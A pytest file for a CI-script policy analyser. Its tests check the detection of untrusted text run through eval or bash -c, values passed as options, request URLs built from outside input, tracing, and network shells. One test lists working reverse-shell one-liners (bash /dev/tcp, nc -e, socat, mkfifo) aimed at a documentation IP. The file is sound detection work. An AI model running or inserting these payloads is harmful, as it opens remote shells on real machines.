"""Text that is run as code, values handed on as options, shells on the network, tracing."""

from __future__ import annotations

import pytest

from policyd.pipeline.effects import find_script_effects
from policyd.pipeline.shell import Opaque, split_script
from tests.pipeline.effects.said import details, effects


@pytest.mark.parametrize(
    ("script", "untrusted"),
    [
        ('eval "$CMD"', False),
        ('eval "$TITLE"', True),
        ('X="$TITLE"; eval "$X"', True),
        ('X="a $TITLE"; Y=$X; eval $Y', True),
        ("for t in $TITLE; do eval $t; done", True),
        ('read -r X <<< "$TITLE"; eval "$X"', True),
        ('while read -r l; do eval "$l"; done <<< "$TITLE"', True),
        ('bash -c "$CMD"', False),
        ('bash -euc "$TITLE"', True),
        ('bash -c "echo $TITLE"', True),
        ('python3 -c "$CODE"', False),
        ("python3 -c \"print('$TITLE')\"", True),
        ("node -e \"console.log('$TITLE')\"", True),
        ('echo "$TITLE" | sh', True),
        ('bash <<< "$TITLE"', True),
        ("bash <<EOF\necho $TITLE\nEOF", True),
        ('ssh host "echo $TITLE"', True),
        ('docker run alpine sh -c "echo $TITLE"', True),
        ("$TITLE --version", True),
        ("ssh host <<EOF\ncd x\ngit checkout $TITLE\nEOF", True),
        ("echo a && ssh host <<EOF\nmake $TITLE\nEOF", True),
        ("python3 - <<EOF\nprint('$TITLE')\nEOF", True),
        ('echo "$TITLE" | xargs -I{} sh -c "echo {}"', True),
        ('echo "$TITLE" | xargs -I NAME bash -c "echo NAME"', True),
        ('trap "echo $TITLE" EXIT', True),
        ('M=$(git log -1 --pretty=%B); eval "say $M"', True),
        ("cat > run.sh <<EOF\nmake $TITLE\nEOF\nsh run.sh", True),
        ('echo "echo $TITLE" > step.sh && sh step.sh', True),
        ('IID=$(jq -r .note "$TITLE"); eval "say $IID"', True),
    ],
)
def test_text_that_is_run_is_seen(script: str, untrusted: bool) -> None:
    found = [effect for effect in effects(script) if effect.kind == "evaluates"]

    assert [effect.untrusted for effect in found] == [untrusted]
    assert not found[0].computed or untrusted


@pytest.mark.parametrize(
    "script",
    [
        "bash -c 'make \"$TARGET\"'",
        'bash -c \'exec "$@"\' -c "$X"',
        "bash -c",
        "eval",
        "bash script.sh",
        "cat <<EOF > f\n$TITLE\nEOF",
        "bash <<'EOF'\necho hi\nEOF",
        'echo "$TITLE"',
        'echo "$TITLE" | wc -l',
        'echo "$TITLE" | python3 -m json.tool',
        "$CMD --version",
        "make test",
        "sh -c 'echo \"$TITLE\"'",
        "python3 -c 'print(\"$TITLE\")'",
        "ssh host <<'EOF'\necho $TITLE\nEOF",
        "ssh host <<EOF\necho \\$TITLE\nEOF",
        'run() { eval "$@"; }\nrun make',
        'CMD="make test"; eval $CMD',
        'S=${TITLE//[^a-z0-9]/-}; sh -c "echo $S"',
        'IID=$(jq -r .merge_request.iid "$TITLE"); sh -c "echo $IID"',
        'cat > meta.json <<EOF\n{"t": "$TITLE"}\nEOF\nsh run.sh',
        'H=$(git log -1 --pretty=%H); sh -c "echo $H"',
        'echo "$X" | xargs -I{} sh -c "echo {}"',
    ],
)
def test_text_that_is_written_out_or_only_shown_is_fine(script: str) -> None:
    assert details("evaluates", script) == []


def test_what_a_tool_prints_is_computed() -> None:
    found = [effect for effect in effects('eval "$(ssh-agent -s)"') if effect.kind == "evaluates"]

    assert [(effect.computed, effect.untrusted, effect.confidence) for effect in found] == [(True, False, "low")]


@pytest.mark.parametrize(
    "value", ["$(echo $TITLE | sha256sum)", "$(echo $TITLE | tr -cd 'a-z0-9')", "$(echo $TITLE | wc -c)"]
)
def test_a_value_of_which_nothing_is_left_is_no_outsiders(value: str) -> None:
    assert not any(effect.untrusted for effect in effects(f'X={value}; echo "A=$X" >> $GITHUB_ENV'))


def test_what_the_system_expands_is_an_outsiders_too() -> None:
    script = "X='@@'; eval \"$X\""
    commands = split_script(script, [Opaque(3, 5, True)])

    found = find_script_effects(commands)[0]

    assert [(effect.kind, effect.untrusted) for effect in found.effects] == [("evaluates", True)]
    assert found.reads_untrusted == ["X"]


def test_cmd_puts_values_in_before_it_reads() -> None:
    assert details("evaluates", "echo %TITLE%", "cmd") == ["%TITLE%"]
    assert details("evaluates", "echo %NAME%", "cmd") == []


@pytest.mark.parametrize(
    "script",
    [
        'git checkout "$TITLE"',
        "git fetch origin $TITLE",
        'sed -i "s/x/$TITLE/" f',
        'awk "/$TITLE/" f',
        "tar xf a.tar $TITLE",
        'find . -name x "$TITLE"',
        'npm install "$TITLE"',
        'make "NAME=$TITLE"',
    ],
)
def test_an_outsiders_text_as_option_or_script_is_seen(script: str) -> None:
    assert len(details("argument", script)) == 1


@pytest.mark.parametrize(
    "script",
    [
        'git commit -m "$TITLE"',
        'git checkout -- "$TITLE"',
        "awk -v t=\"$TITLE\" '{print t}' f",
        "awk -v t '{print $1}' f",
        "jq --arg t \"$TITLE\" '.x = $t' f",
        'echo "$TITLE"',
        'git checkout "$NAME"',
        'gh issue comment 1 --body "$TITLE"',
    ],
)
def test_an_outsiders_text_as_plain_value_is_fine(script: str) -> None:
    assert details("argument", script) == []


def test_an_address_made_of_an_outsiders_text_is_seen() -> None:
    found = {
        e.detail: e.confidence
        for e in effects('curl "https://$TITLE/x"; curl "https://a.example/$TITLE"; curl $TITLE')
        if e.kind == "request"
    }

    assert found == {"https://$TITLE/x": "high", "https://a.example/$TITLE": "medium", "$TITLE": "high"}
    assert details("request", 'curl -d "$TITLE" https://a.example') == []


@pytest.mark.parametrize(
    "script",
    [
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | sh",
        "nc -e /bin/sh 203.0.113.9 4444",
        "ncat --sh-exec /bin/bash 203.0.113.9 1",
        "socat TCP:203.0.113.9:1 EXEC:/bin/sh",
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])'",
        "mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.9 1 > f",
    ],
)
def test_a_shell_on_the_network_is_seen(script: str) -> None:
    assert details("reverse-shell", script)


@pytest.mark.parametrize(
    "script",
    [
        "timeout 1 bash -c '</dev/tcp/db/5432'",
        "nc -z localhost 5432",
        "grep -r 'bash -i >& /dev/tcp/' src",
        "echo 'nc -e /bin/sh'",
        "make test",
    ],
)
def test_waiting_for_a_port_and_talking_about_it_is_fine(script: str) -> None:
    assert details("reverse-shell", script) == []


@pytest.mark.parametrize("script", ["set -x", "set -eux", "set -o xtrace", "bash -x run.sh"])
def test_tracing_is_seen(script: str) -> None:
    assert len(details("debug", script)) == 1


@pytest.mark.parametrize("script", ["set", "set -eu", "set +x", "bash run.sh"])
def test_no_tracing_is_fine(script: str) -> None:
    assert details("debug", script) == []


@pytest.mark.parametrize(
    "script",
    [
        "git diff --name-only main | xargs -I{} sh -c 'lint {}'",
        "git diff --name-only main | grep sh$ | xargs -I F bash -c 'lint F'",
        'for f in $(git diff --name-only main); do sh -c "lint $f"; done',
        'F=$(git diff-tree --no-commit-id --name-only -r HEAD); eval "lint $F"',
        "xargs -I% sh -c 'echo %' <<< \"$TITLE\"",
    ],
)
def test_names_of_changed_files_that_are_run_as_code(script: str) -> None:
    assert [one.untrusted for one in effects(script) if one.kind == "evaluates"] == [True]


@pytest.mark.parametrize(
    "script",
    [
        "git diff --name-only main | xargs eslint",
        "git diff --name-only main | xargs -n1 sh -c 'lint \"$1\"' _",
        "F=$(git diff --name-only main); eslint $F",
        "ls | xargs -I{} sh -c 'lint {}'",
    ],
)
def test_names_of_changed_files_may_be_words(script: str) -> None:
    assert [one for one in effects(script) if one.kind in ("evaluates", "argument")] == []


def test_a_function_that_hands_its_parameter_to_a_remote_shell() -> None:
    assert [one.kind for one in effects('on() { ssh ci@h "$1"; }\non "checkout $TITLE"')] == ["evaluates"]


@pytest.mark.parametrize(
    ("script", "shell"),
    [
        ('mapfile -t ALL < <(git diff --name-only HEAD~1)\neval "lint ${ALL[*]}"', "bash"),
        ('git diff --name-only HEAD~1 | while read -r f; do bash -c "lint $f"; done', "bash"),
        ('$all = git diff --name-only HEAD~1\nforeach ($f in $all) { Invoke-Expression "lint $f" }', "pwsh"),
    ],
)
def test_names_of_changed_files_that_are_run_as_code_are_seen(script: str, shell: str) -> None:
    assert len(details("evaluates", script, shell)) == 1


@pytest.mark.parametrize(
    ("script", "shell"),
    [
        ('git diff --name-only HEAD~1 | while read -r f; do lint -- "$f"; done', "bash"),
        ("$all = git diff --name-only HEAD~1\nforeach ($f in $all) { & lint $f }", "pwsh"),
    ],
)
def test_names_of_changed_files_that_are_arguments_are_fine(script: str, shell: str) -> None:
    assert details("evaluates", script, shell) == []
